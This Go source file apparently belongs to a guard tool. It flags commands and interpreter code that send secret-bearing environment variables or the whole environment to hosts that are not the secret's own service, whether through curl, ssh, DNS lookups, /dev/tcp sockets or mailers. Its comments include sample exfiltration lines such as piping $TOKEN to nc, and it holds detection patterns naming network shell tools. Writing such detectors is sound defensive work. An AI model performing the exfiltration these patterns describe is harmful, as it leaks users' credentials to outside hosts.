package policy

import (
	"cmp"
	"slices"
	"strings"

	"github.com/gemini-guard/gemini-guard/internal/lazyregexp"
	"github.com/gemini-guard/gemini-guard/internal/shell"
)

// Secret-bearing variables sent to a host that is not their service, by a
// command (curl, ssh, a DNS lookup, a socket) or by interpreter code.

// secretHosts maps well-known secret-bearing variables (by prefix) to the
// hosts that are their own service: sending $GITHUB_TOKEN to
// api.github.com is its use, sending it anywhere else is exfiltration.
var secretHosts = []struct {
	vars  []string
	hosts []string
}{
	{[]string{"GITHUB_", "GH_"}, []string{"github.com", "githubusercontent.com", "ghcr.io"}},
	{[]string{"GITLAB_", "GL_", "CI_JOB_TOKEN", "CI_REGISTRY_PASSWORD"}, []string{"gitlab.com", "gitlab.io"}},
	{[]string{"AWS_"}, []string{"amazonaws.com", "aws.amazon.com", "amazonaws.com.cn"}},
	{[]string{"GOOGLE_", "GCP_", "GCLOUD_", "GEMINI_", "GOOGLE_API_KEY"}, []string{"googleapis.com", "google.com", "gcr.io", "pkg.dev"}},
	{[]string{"AZURE_", "ARM_"}, []string{"azure.com", "microsoft.com", "microsoftonline.com", "windows.net", "azurecr.io", "visualstudio.com"}},
	{[]string{"OPENAI_"}, []string{"openai.com"}},
	{[]string{"ANTHROPIC_", "CLAUDE_"}, []string{"anthropic.com"}},
	{[]string{"SLACK_"}, []string{"slack.com"}},
	{[]string{"STRIPE_"}, []string{"stripe.com"}},
	{[]string{"NPM_", "NODE_AUTH_TOKEN"}, []string{"npmjs.org", "npmjs.com"}},
	{[]string{"PYPI_", "TWINE_"}, []string{"pypi.org", "python.org"}},
	{[]string{"DOCKER_", "DOCKERHUB_"}, []string{"docker.io", "docker.com"}},
	{[]string{"HF_", "HUGGINGFACE_", "HUGGING_FACE_"}, []string{"huggingface.co", "hf.co"}},
	{[]string{"CLOUDFLARE_", "CF_"}, []string{"cloudflare.com"}},
	{[]string{"DIGITALOCEAN_", "DO_"}, []string{"digitalocean.com"}},
	{[]string{"HEROKU_"}, []string{"heroku.com"}},
	{[]string{"VERCEL_"}, []string{"vercel.com"}},
	{[]string{"NETLIFY_"}, []string{"netlify.com"}},
	{[]string{"SENTRY_"}, []string{"sentry.io"}},
	{[]string{"DATADOG_", "DD_"}, []string{"datadoghq.com", "datadoghq.eu"}},
	{[]string{"TWILIO_"}, []string{"twilio.com"}},
	{[]string{"SENDGRID_"}, []string{"sendgrid.com"}},
	{[]string{"DISCORD_"}, []string{"discord.com", "discordapp.com"}},
	{[]string{"TELEGRAM_"}, []string{"telegram.org"}},
	{[]string{"CIRCLE_", "CIRCLECI_"}, []string{"circleci.com"}},
	{[]string{"CODECOV_"}, []string{"codecov.io"}},
	{[]string{"SUPABASE_"}, []string{"supabase.co", "supabase.com"}},
	{[]string{"LINEAR_"}, []string{"linear.app"}},
	{[]string{"NOTION_"}, []string{"notion.com", "notion.so"}},
	{[]string{"MISTRAL_"}, []string{"mistral.ai"}},
	{[]string{"GROQ_"}, []string{"groq.com"}},
	{[]string{"COHERE_", "CO_API_KEY"}, []string{"cohere.ai", "cohere.com"}},
	{[]string{"REPLICATE_"}, []string{"replicate.com"}},
}

// secretVarRe: a variable name that carries a secret.
var secretVarRe = &lazyregexp.Regexp{Expr: `(?i)(^|_)(TOKEN|SECRET|PASSWORD|PASSWD|PASS|API_?KEY|ACCESS_KEY|PRIVATE_KEY|AUTH|CREDENTIALS?|PAT|SESSION_KEY|CLIENT_SECRET|WEBHOOK_URL)($|_)|^(GH_TOKEN|NPM_TOKEN|HF_TOKEN|CI_JOB_TOKEN|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN)$`}

// webClients take a URL operand and send their arguments to it.
var webClients = []string{"curl", "wget", "http", "https", "xh", "httpie", "curlie", "wget2", "aria2c", "nc", "ncat", "netcat", "socat", "telnet", "openssl"}

// remoteRunners send their arguments and standard input to the host they
// name (ssh user@host 'cmd'), mailers to a recipient whose server is not
// known.
var remoteRunners = []string{"ssh", "autossh", "mosh", "sshpass", "mail", "mailx", "s-nail", "sendmail", "mutt", "neomutt", "msmtp", "ssmtp", "swaks", "sendemail", "ftp", "lftp", "tftp", "sftp"}

var mailers = []string{"mail", "mailx", "s-nail", "sendmail", "mutt", "neomutt", "msmtp", "ssmtp", "swaks", "sendemail"}

// dnsLookups resolve the names they are given: a secret in a name is sent
// to that domain's name server, whatever the answer (DNS exfiltration).
var dnsLookups = []string{"nslookup", "dig", "host", "drill", "kdig", "delv", "resolvectl", "getent", "ping", "ping6", "traceroute", "tracepath", "mtr", "whois", "arping", "fping"}

// socketAddrRe is a socat address (TCP:host:port, OPENSSL:host:port) or
// a host:port operand (openssl s_client -connect host:443).
var socketAddrRe = &lazyregexp.Regexp{Expr: `(?i)^(?:(?:tcp[46]?|udp[46]?|ssl|openssl|sctp|dccp|socks4a?|proxy):)?([a-z0-9][a-z0-9.-]*\.[a-z]{2,}|\d+\.\d+\.\d+\.\d+):\d+`}

// sshValueOptions are ssh's options that take a value, so that the host is
// the first operand after them.
var sshValueOptions = []string{"-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o", "-p", "-Q", "-R", "-S", "-W", "-w", "-B", "-P"}

// destinationVarRe names a variable that holds where a request goes
// ($API_URL, $SLACK_WEBHOOK_URL, $ENDPOINT): given alone as an argument it
// is the destination, not content sent.
var destinationVarRe = &lazyregexp.Regexp{Expr: `(?i)(URL|URI|ENDPOINT|HOST|HOSTNAME|ADDR|ADDRESS|SERVER|DOMAIN)$`}

// checkSecretVarSent: a secret-bearing variable (or the whole environment
// through $(env)) in the arguments, headers, body or standard input of a
// network client, a remote shell or a mailer whose host is not that
// secret's own service; in a name looked up in DNS; or in a URL handed to
// any program (git remote add x https://$TOKEN@host/r.git). The reason
// names the variable, never its value.
func checkSecretVarSent(c *Call) Finding {
	name := c.Ex.Name
	socketHost := socketRedirect(c.Ex)
	if socketHost == "" && (name == "" || slices.Contains(dataCommands, name)) {
		return Finding{}
	}
	sv := &secretVars{res: c.Res}
	if socketHost != "" {
		sv.words(c.Args)
		sv.hereStrings(c.Ex)
		if in := c.Ex.Stdin; in != nil && in.HasText {
			sv.scan(in.Text)
		}
		return sentTo(c.Ctx, cmp.Or(name, "a redirection"), sv.vars, []string{socketHost})
	}
	web, remote, dns := slices.Contains(webClients, name), slices.Contains(remoteRunners, name), slices.Contains(dnsLookups, name)
	if !web && !remote && !dns {
		// Any other program: only URLs it is given are requests.
		return sentTo(c.Ctx, name, sv.vars, sv.urls(c.Args))
	}
	hosts := sv.clientArgs(c, web, remote)
	sv.hereStrings(c.Ex)
	sv.stdin(c.Ex.Stdin)
	if len(sv.vars) == 0 {
		return Finding{}
	}
	if dns {
		return hit(name + " looks up a name built from " + sv.vars[0] + ", which sends it to that domain's name server")
	}
	if len(hosts) == 0 && slices.Contains(plainSockets, name) {
		hosts = dottedOperand(c.Args)
	}
	if remote && (len(hosts) == 0 || slices.Contains(mailers, name)) {
		hosts = []string{"?"} // a mail recipient's server is not known
	}
	return sentTo(c.Ctx, name, sv.vars, hosts)
}

// plainSockets connect to the host named by their first dotted operand.
var plainSockets = []string{"nc", "ncat", "netcat", "telnet"}

// dottedOperand is the first known operand holding a dot, as a host.
func dottedOperand(args []string) []string {
	for _, o := range operands(args) {
		if shell.Known(o) && strings.Contains(o, ".") {
			return []string{strings.ToLower(o)}
		}
	}
	return nil
}

// socketRedirect is the host of a /dev/tcp or /dev/udp path ex writes to
// (echo "$TOKEN" > /dev/tcp/host/80: bash opens the connection, so even a
// data program sends what it prints), "" if none.
func socketRedirect(ex *shell.Exec) string {
	host := ""
	for _, r := range ex.Redirs {
		if r.Writes() && netPathRe.MatchString(r.Target) {
			host = strings.ToLower(strings.Split(r.Target, "/")[3])
		}
	}
	return host
}

// secretVars collects the secret-bearing variables (secretVarRe) and
// environment dumps in the words a command sends.
type secretVars struct {
	res  *shell.Result
	vars []string
}

// scan adds the secrets word expands.
func (sv *secretVars) scan(word string) {
	for _, u := range sv.res.Unknowns(word) {
		switch u.Kind {
		case shell.Variable:
			if u.Name != "" && secretVarRe.MatchString(u.Name) && !slices.Contains(sv.vars, u.Name) {
				sv.vars = append(sv.vars, u.Name)
			}
		case shell.CommandOutput:
			sv.dumps(u.Execs)
		}
	}
}

// dumps adds the commands that print the whole environment.
func (sv *secretVars) dumps(execs []*shell.Exec) {
	for _, e := range execs {
		if isEnvDump(e) {
			sv.vars = append(sv.vars, "the whole environment ($("+e.Name+"))")
		}
		if e.Name == "cat" && len(e.Args) > 1 && strings.HasSuffix(e.Args[1], "/environ") {
			sv.vars = append(sv.vars, "the whole environment ("+e.Args[1]+")")
		}
	}
}

func (sv *secretVars) words(ws []string) {
	for _, w := range ws {
		sv.scan(w)
	}
}

// hereStrings scans ex's here-strings (<<<).
func (sv *secretVars) hereStrings(ex *shell.Exec) {
	for _, r := range ex.Redirs {
		if r.Op == "<<<" {
			sv.scan(r.Target)
		}
	}
}

// stdin scans the text on standard input and what a printer piped into it
// writes (echo "$TOKEN" | nc host 80).
func (sv *secretVars) stdin(in *shell.Stdin) {
	if in == nil {
		return
	}
	if in.HasText {
		sv.scan(in.Text)
	}
	for _, p := range in.Producers {
		if p.Name == "echo" || p.Name == "printf" {
			sv.words(p.Args[1:])
		}
	}
}

// urls scans the URLs in args and returns their hosts.
func (sv *secretVars) urls(args []string) []string {
	var hosts []string
	for _, a := range args {
		if strings.Contains(a, "://") {
			sv.scan(a)
			if h := urlHost(sv.res, a); h != "" {
				hosts = append(hosts, h)
			}
		}
	}
	return hosts
}

// clientArgs scans the arguments of a web client, remote runner or DNS
// lookup and returns the hosts they name: a destination variable ($URL)
// of a web client, ssh's user@host, URLs and socket addresses (socat
// TCP:host:port, openssl -connect host:port).
func (sv *secretVars) clientArgs(c *Call, web, remote bool) []string {
	var hosts []string
	for i, a := range c.Args {
		if v := destinationVar(c.Res, a); v != "" && web {
			hosts = append(hosts, "$"+v)
			continue
		}
		sv.scan(a)
		if remote && len(hosts) == 0 && sshHostWord(c.Args, i) {
			if h := userHost(a); h != "" {
				hosts = append(hosts, h)
				continue
			}
		}
		if h := urlHost(c.Res, a); h != "" {
			hosts = append(hosts, h)
		} else if m := socketAddrRe.FindStringSubmatch(a); m != nil && c.Ex.Name != "curl" {
			hosts = append(hosts, strings.ToLower(m[1]))
		}
	}
	return hosts
}

// destinationVar is the name of the variable a names alone when it looks
// like a destination (URL, HOST, ENDPOINT …), "" otherwise.
func destinationVar(res *shell.Result, a string) string {
	parts := res.Parts(a)
	if len(parts) == 1 && parts[0].Unknown != nil && parts[0].Unknown.Kind == shell.Variable && destinationVarRe.MatchString(parts[0].Unknown.Name) {
		return parts[0].Unknown.Name
	}
	return ""
}

// sshHostWord reports whether args[i] may be the host of an ssh-like
// command: an operand, not an option's value.
func sshHostWord(args []string, i int) bool {
	return !strings.HasPrefix(args[i], "-") && (i == 0 || !slices.Contains(sshValueOptions, args[i-1]))
}

// sentTo judges vars sent by program name to hosts: each host must be
// local or the variable's own service. A host "$NAME" (held in a
// variable) is own when that variable belongs to the same service
// ($GITHUB_API_URL for $GITHUB_TOKEN).
//
// A host the user trusts (GEMINI_GUARD_TRUSTED_HOSTS) or the workspace's
// own files name (Context.ProjectHosts) counts as the service of any
// secret variable: the guard cannot tell which service $API_TOKEN belongs
// to, but a project that names api.shop.example in its code uses it.
func sentTo(ctx *Context, name string, vars, hosts []string) Finding {
	for _, v := range vars {
		own := ownHosts(v)
		for _, h := range hosts {
			if localHost(h) || hostIn(h, own) || ctx.trustsHost(h) {
				continue
			}
			if strings.HasPrefix(h, "$") {
				if hv := ownHosts(h[1:]); len(hv) > 0 && len(own) > 0 && hv[0] == own[0] {
					continue
				}
				return hit(name + " sends " + v + " to the host held in " + h + ", which may not be that secret's own service")
			}
			if h == "?" {
				return hit(name + " sends " + v + " to a host that cannot be known before it runs")
			}
			return hit(name + " sends " + v + " to " + h + ", which is not that secret's own service nor a host the project's files name or the user trusts")
		}
		if len(hosts) == 0 && strings.HasPrefix(v, "the whole environment") {
			return hit(name + " sends " + v + " over the network")
		}
	}
	return Finding{}
}

// userHost returns the host of an ssh-style destination (user@host,
// host, ssh://user@host:22), "" when a is not one.
func userHost(a string) string {
	if strings.Contains(a, "://") {
		return ""
	}
	if !shell.Known(a) {
		return "?"
	}
	h := a
	if i := strings.LastIndexByte(h, '@'); i >= 0 {
		h = h[i+1:]
	}
	if i := strings.IndexByte(h, ':'); i >= 0 {
		h = h[:i]
	}
	if h == "" || strings.ContainsAny(h, " /'\"=") {
		return ""
	}
	return strings.ToLower(h)
}

func ownHosts(v string) []string {
	var out []string
	for _, s := range secretHosts {
		for _, p := range s.vars {
			if strings.HasPrefix(v, p) || v == p {
				out = append(out, s.hosts...)
			}
		}
	}
	return out
}

// trustsHost says whether h is a host the user trusts (an exact name, or
// a subdomain of a "*.name" pattern) or one the workspace's files name
// (exactly). Nil ctx trusts nothing.
func (ctx *Context) trustsHost(h string) bool {
	if ctx == nil || h == "" || h == "?" || strings.HasPrefix(h, "$") {
		return false
	}
	for _, p := range ctx.TrustedHosts {
		if base, ok := strings.CutPrefix(p, "*."); ok && strings.HasSuffix(h, "."+base) || h == p {
			return true
		}
	}
	if !slices.Contains(ctx.ProjectHosts, h) && ctx.ProjectHostsOf != nil && !ctx.projectAsked {
		ctx.projectAsked = true
		ctx.ProjectHosts = ctx.ProjectHostsOf()
	}
	return slices.Contains(ctx.ProjectHosts, h)
}

func hostIn(h string, hosts []string) bool {
	for _, o := range hosts {
		if h == o || strings.HasSuffix(h, "."+o) {
			return true
		}
	}
	return false
}

func localHost(h string) bool {
	return h == "localhost" || strings.HasSuffix(h, ".localhost") || strings.HasPrefix(h, "127.") || h == "::1" || h == "[::1]" || h == "0.0.0.0" || strings.HasSuffix(h, ".local") || strings.HasSuffix(h, ".internal")
}

// urlHost returns the lower-cased host of a URL-looking word, "" if none.
// An unknown host ($HOST) is returned as "?" so that it counts as another
// host.
func urlHost(res *shell.Result, a string) string {
	_, rest, ok := strings.Cut(a, "://")
	if !ok {
		if rest, ok = bareURL(a); !ok {
			return ""
		}
	}
	if i := strings.IndexAny(rest, "/?#"); i >= 0 {
		rest = rest[:i]
	}
	if i := strings.LastIndexByte(rest, '@'); i >= 0 {
		rest = rest[i+1:]
	}
	if !strings.HasPrefix(rest, "[") {
		if i := strings.LastIndexByte(rest, ':'); i >= 0 {
			rest = rest[:i]
		}
	}
	if !shell.Known(rest) {
		if parts := res.Parts(rest); len(parts) > 0 && parts[0].Unknown != nil && parts[0].Unknown.Kind == shell.Variable && parts[0].Unknown.Name != "?" {
			return "$" + parts[0].Unknown.Name
		}
		return "?"
	}
	return strings.ToLower(rest)
}

// bareURL reports whether a word without a scheme is a URL (curl
// example.com/x): a dotted, known host that is not a file name, and not
// an option, a @file, an assignment or a variable.
func bareURL(a string) (string, bool) {
	if strings.HasPrefix(a, "-") || strings.HasPrefix(a, "@") || strings.Contains(a, "=") || strings.Contains(a, " ") || !strings.Contains(a, ".") || strings.Contains(a, "$") {
		return "", false
	}
	head := a
	if i := strings.IndexAny(head, "/:?#"); i >= 0 {
		head = head[:i]
	}
	if !shell.Known(head) || strings.Count(head, ".") == 0 || strings.HasSuffix(head, ".json") || strings.HasSuffix(head, ".txt") {
		return "", false
	}
	return a, true
}

var (
	// codeEnvReadRe finds interpreter code reading one environment
	// variable by name: os.environ['X'], os.getenv("X"), process.env.X,
	// ENV['X'], $ENV{X}, getenv('X'), $env:X, Deno.env.get("X").
	codeEnvReadRe = &lazyregexp.Regexp{Expr: `(?:os\.environ(?:\.get)?\s*[\[(]\s*|os\.getenv\s*\(\s*|process\.env\.|process\.env\[\s*|\bENV(?:\.fetch)?\s*[\[(]\s*|\$ENV\{\s*|getenv\s*\(\s*|\$env:|Deno\.env\.get\s*\(\s*|System\.getenv\s*\(\s*)["']?([A-Za-z_][A-Za-z0-9_]*)`}
	// codeEnvAllRe finds code handing over the whole environment.
	codeEnvAllRe = &lazyregexp.Regexp{Expr: `(?:dict\s*\(\s*os\.environ\s*\)|os\.environ\s*[,)}]|json\.dumps\s*\(\s*(?:dict\s*\()?os\.environ|process\.env\s*[,)}]|ENV\.to_h|%ENV|Deno\.env\.toObject)`}
	// codeURLHostRe finds the hosts of the URLs in code.
	codeURLHostRe = &lazyregexp.Regexp{Expr: `(?i)(?:https?|wss?|ftp)://(?:[^/\s'"@]*@)?([^/\s'"?#:]+)`}
	// codeSendRe finds a network call in code.
	codeSendRe = &lazyregexp.Regexp{Expr: `(?i)(urlopen|urlretrieve|requests\.|httpx\.|urllib|http\.client|fetch\s*\(|axios|https?\.(get|request)|open-uri|URI\.open|Net::HTTP|LWP|HTTP::Tiny|file_get_contents|curl_|Invoke-WebRequest|Invoke-RestMethod|WebClient|socket|\.post\s*\(|\.send\s*\()`}
)

// checkCodeSecretSent finds interpreter code that reads a secret-bearing
// variable (or the whole environment) and sends a request to a host that
// is not that secret's own service.
func checkCodeSecretSent(h *shell.Hazard, ctx *Context) Finding {
	if h.Kind != shell.InterpreterCode || !codeSendRe.MatchString(h.Text) {
		return Finding{}
	}
	var vars []string
	for _, m := range codeEnvReadRe.Get().FindAllStringSubmatch(h.Text, -1) {
		if secretVarRe.MatchString(m[1]) && !slices.Contains(vars, m[1]) {
			vars = append(vars, m[1])
		}
	}
	if codeEnvAllRe.MatchString(h.Text) {
		vars = append(vars, "the whole environment")
	}
	if len(vars) == 0 {
		return Finding{}
	}
	var hosts []string
	for _, m := range codeURLHostRe.Get().FindAllStringSubmatch(h.Text, -1) {
		hosts = append(hosts, strings.ToLower(m[1]))
	}
	if len(hosts) == 0 {
		hosts = []string{"?"}
	}
	return sentTo(ctx, h.Interpreter+" code", vars, hosts)
}
